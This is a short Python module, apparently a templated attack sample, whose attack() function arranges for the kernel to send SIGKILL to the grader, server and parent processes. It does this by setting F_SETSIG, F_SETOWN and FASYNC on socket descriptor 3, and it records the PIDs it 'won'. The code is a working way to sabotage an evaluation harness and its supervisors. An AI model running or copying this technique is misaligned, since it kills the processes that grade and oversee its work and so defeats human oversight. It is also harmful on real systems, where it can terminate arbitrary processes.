"""Makes the kernel signal the grader when its socket can be read (F_SETOWN, F_SETSIG)."""

import fcntl
import functools
import os
import signal

PIDS = [pid for pid in {int("@grader@"), int("@server@"), os.getppid()} if pid > 1]


@functools.cache
def attack():
    won = []
    for pid in PIDS:
        try:
            fcntl.fcntl(3, 10, signal.SIGKILL)  # F_SETSIG
            fcntl.fcntl(3, fcntl.F_SETOWN, pid)
            fcntl.fcntl(3, fcntl.F_SETFL, os.O_RDWR | fcntl.FASYNC)
            won.append(pid)
        except OSError:
            pass
    return won
